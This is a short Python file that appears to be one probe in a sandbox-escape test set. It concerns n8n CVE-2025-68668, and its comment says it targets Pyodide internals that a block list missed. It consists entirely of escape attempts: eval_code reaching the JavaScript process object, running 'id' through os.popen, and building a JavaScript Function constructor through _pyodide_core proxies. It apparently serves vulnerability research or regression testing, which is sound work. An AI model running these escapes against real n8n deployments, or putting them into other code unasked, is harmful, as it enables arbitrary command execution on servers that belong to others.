# From: n8n CVE-2025-68668: the internals that a block list forgot: `_pyodide_core`, `_pyodide._base.eval_code`.
# Ends: [] or error crash
from gains import gains


def attack(probe):
    import _pyodide._base
    import _pyodide_core

    return gains([
        lambda: _pyodide._base.eval_code("__import__('js').process"),
        lambda: _pyodide._base.eval_code("__import__('os').popen('id').read()") or None,
        lambda: _pyodide_core.raw_call(print),
        lambda: _pyodide_core.jsproxy_typedict[0]().constructor.constructor("return 1")(),
        lambda: _pyodide_core.JsFuncSignature().constructor,
        lambda: _pyodide_core.can_run_sync() or None,
    ])
